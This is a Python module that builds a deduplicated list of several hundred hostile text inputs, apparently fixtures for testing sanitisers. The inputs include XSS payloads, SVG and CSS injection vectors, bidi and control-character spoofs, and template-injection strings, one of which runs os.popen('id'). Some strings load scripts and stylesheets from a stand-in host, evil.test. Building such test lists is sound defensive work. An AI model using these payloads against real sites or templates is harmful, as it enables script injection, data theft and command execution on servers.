"""Texts that try to be more than text: markup, scripts, addresses, styles, templates, controls."""

from __future__ import annotations

from itertools import product

CALL = "pwned()"
"""What every script in them would call."""

_SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>{0}</script>",
    "</script><script>{0}</script>",
    "<!--<script>{0}</script>",
    "]]><script>{0}</script>",
    "--><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</mark></p></main><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "`><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
)
_ELEMENTS = (
    *("img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed"),
    *("marquee", "math", "form", "select", "textarea", "button", "style", "link", "meta", "base"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin"),
    *("onanimationstart", "onpointerenter", "onbeforeprint"),
)
_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    " javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={0}>",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "view-source:javascript:{0}",
    "//evil.test/x",
    "http://[::1",
    "https://evil.test/\u202egpj.exe",
)
_LINKS = ("{}", "[words]({})", "![words]({})", "<{}>", '<a href="{}">words</a>')
_STYLES = (
    "<style>@import url(//evil.test/x.css);</style>",
    "<style>*{{background:url(//evil.test/{0})}}</style>",
    '<p style="background:url(javascript:{0})">words</p>',
    '<p style="width:expression({0})">words</p>',
    "</style><style>body{{display:none}}</style>",
    "}}body{{display:none}}",
    "\\3c script\\3e {0}",
    "url('javascript:{0}')",
    "<link rel=stylesheet href=//evil.test/x.css>",
    '<div class="vh" hidden style="display:none">gone</div>',
)
_TEMPLATES = (
    "{{{{ {0} }}}}",
    "{{{{ 7*7 }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "{{# {0} #}}",
    "{{{{ self.__init__ }}}}",
    "%(message)s %s {{0}} {{message}}",
)
_SEPARATORS = (
    *("\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x1b]0;title\x07", "\x1b[31m"),
    *("\x1b]8;;http://evil.test\x1b\\", "\x7f", "\x85", "\x9b31m", "\u2028", "\u2029", "\ufeff"),
    *("\u200b", "\u200e", "\u200f", "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067"),
    *("\u2068", "\u061c", "\u2060", "\u180e", "\u3164", "\U000e0041\U000e0042"),
)
_SVG = (
    "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>words</text></a></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{0}>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}/>#x'>",
    "<svg/onload={0}>",
    "<svg><style>@import'//evil.test/x.css'</style></svg>",
)

HOSTILE = tuple(
    dict.fromkeys(
        (
            *(form.format(CALL) for form in (*_SCRIPTS, *_SVG, *_STYLES, *_TEMPLATES)),
            *(
                f"<{name} src=x href=x {handler}={CALL}>"
                for name, handler in product(_ELEMENTS, _HANDLERS)
            ),
            *(link.format(scheme.format(CALL)) for link, scheme in product(_LINKS, _SCHEMES)),
            *(f"paid{mark}nothing{mark}owed" for mark in _SEPARATORS),
        )
    )
)
"""At least 300, each different."""
